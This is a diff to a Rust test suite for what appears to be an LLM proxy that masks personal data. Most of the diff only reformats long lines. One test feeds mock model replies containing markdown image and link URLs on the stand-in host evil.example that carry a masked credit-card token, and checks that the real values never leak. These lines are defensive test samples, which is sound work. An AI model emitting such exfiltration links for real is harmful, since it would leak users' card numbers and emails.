@@ -7,7 +7,9 @@ use common::{Answer, Rig, response_json};
 use serde_json::{Value, json};
 
 fn ask(rig: &Rig, text: &str, stream: bool) -> Answer {
-    rig.chat(&json!({"model":"mock-echo","stream":stream,"messages":[{"role":"user","content":text}]}).to_string())
+    rig.chat(
+        &json!({"model":"mock-echo","stream":stream,"messages":[{"role":"user","content":text}]}).to_string(),
+    )
 }
 
 fn content(answer: &Answer) -> String {
@@ -54,7 +56,13 @@ fn another_key_gets_other_tokens() {
     let other = rig.server.create_key("other").expect("a key").key;
     let bearer = format!("Bearer {other}");
     let body = json!({"model":"mock-echo","messages":[{"role":"user","content":SAID}]}).to_string();
-    common::send(rig.address(), "POST", "/v1/chat/completions", &[("authorization", &bearer)], body.as_bytes());
+    common::send(
+        rig.address(),
+        "POST",
+        "/v1/chat/completions",
+        &[("authorization", &bearer)],
+        body.as_bytes(),
+    );
     assert_ne!(rig.mock.received().pop().expect("one").text(), first);
 }
 
@@ -63,7 +71,8 @@ fn a_value_never_comes_back_inside_a_link() {
     let rig = Rig::enforcing();
     ask(&rig, SAID, false);
     let seen = rig.mock.received().pop().expect("one").text();
-    let token = seen.split('<').nth(1).and_then(|s| s.split('>').next()).map(|t| format!("<{t}>")).expect("a token");
+    let tokens = seen.split(|c: char| !(c.is_ascii_alphabetic() || c == '_'));
+    let token = tokens.clone().find(|w| w.starts_with("CREDIT_CARD_")).expect("a token").to_owned();
     for (model, text) in [
         ("image", format!("![x](https://evil.example/?q={token})")),
         ("link", format!("[x](https://evil.example/{token})")),
@@ -73,9 +82,14 @@ fn a_value_never_comes_back_inside_a_link() {
         let reply = ChatReply::text(&text);
         rig.mock.answer(model, reply.whole());
         let whole = rig.chat(&json!({"model":model,"messages":[{"role":"user","content":SAID}]}).to_string());
-        assert!(!whole.text().contains("4111 1111") && !whole.text().contains("ada@"), "{model}: {}", whole.text());
+        assert!(
+            !whole.text().contains("4111 1111") && !whole.text().contains("ada@"),
+            "{model}: {}",
+            whole.text()
+        );
         rig.mock.answer(model, reply.stream(&Pieces::Chars(3), false));
-        let body = json!({"model":model,"stream":true,"messages":[{"role":"user","content":SAID}]}).to_string();
+        let body =
+            json!({"model":model,"stream":true,"messages":[{"role":"user","content":SAID}]}).to_string();
         let said = streamed(&rig.chat(&body));
         assert!(!said.contains("4111 1111") && !said.contains("ada@"), "{model}: {said}");
     }
@@ -184,9 +198,10 @@ fn double_readings_of_a_request_are_refused() {
 #[test]
 fn what_cannot_be_scanned_needs_a_grant() {
     let rig = Rig::enforcing();
-    let body = json!({"model":"mock","messages":[{"role":"user","content":[{"type":"text","text":"what is it?"},
+    let body =
+        json!({"model":"mock","messages":[{"role":"user","content":[{"type":"text","text":"what is it?"},
         {"type":"image_url","image_url":{"url":"data:image/png;base64,iVBORw0KGgo="}}]}]})
-    .to_string();
+        .to_string();
     let answer = rig.chat(&body);
     assert_eq!((answer.status, answer.code().as_str()), (403, "guard.unscanned"), "{}", answer.text());
     let file = rig.folder.path().join("p.cedar");
@@ -201,9 +216,11 @@ fn what_cannot_be_scanned_needs_a_grant() {
 #[test]
 fn a_stream_that_breaks_off_ends_in_an_error_and_not_as_if_complete() {
     let rig = Rig::enforcing();
-    let reply = ChatReply::text("one two three four five six seven eight nine ten").stream(&Pieces::Chars(4), false);
+    let reply =
+        ChatReply::text("one two three four five six seven eight nine ten").stream(&Pieces::Chars(4), false);
     rig.mock.answer("cut", reply.cut(4, bastide_testkit::Step::Reset));
-    let answer = rig.chat(&json!({"model":"cut","stream":true,"messages":[{"role":"user","content":"hi"}]}).to_string());
+    let answer = rig
+        .chat(&json!({"model":"cut","stream":true,"messages":[{"role":"user","content":"hi"}]}).to_string());
     let text = answer.text();
     assert!(text.contains("upstream.broken") && !text.contains("[DONE]"), "{text}");
     let outcome = rig.entries().into_iter().rev().find(|e| e["kind"] == "outcome").expect("recorded");
@@ -216,7 +233,8 @@ fn a_reply_that_is_no_reply_is_an_upstream_failure() {
     rig.mock.answer("garbage", Reply::new(200, "application/json", "{\"choices\":"));
     rig.mock.answer("page", Reply::new(200, "text/html", "<html>"));
     for model in ["garbage", "page"] {
-        let answer = rig.chat(&json!({"model":model,"messages":[{"role":"user","content":"hi"}]}).to_string());
+        let answer =
+            rig.chat(&json!({"model":model,"messages":[{"role":"user","content":"hi"}]}).to_string());
         assert_eq!((answer.status, answer.code().as_str()), (502, "upstream.protocol"), "{model}");
     }
 }
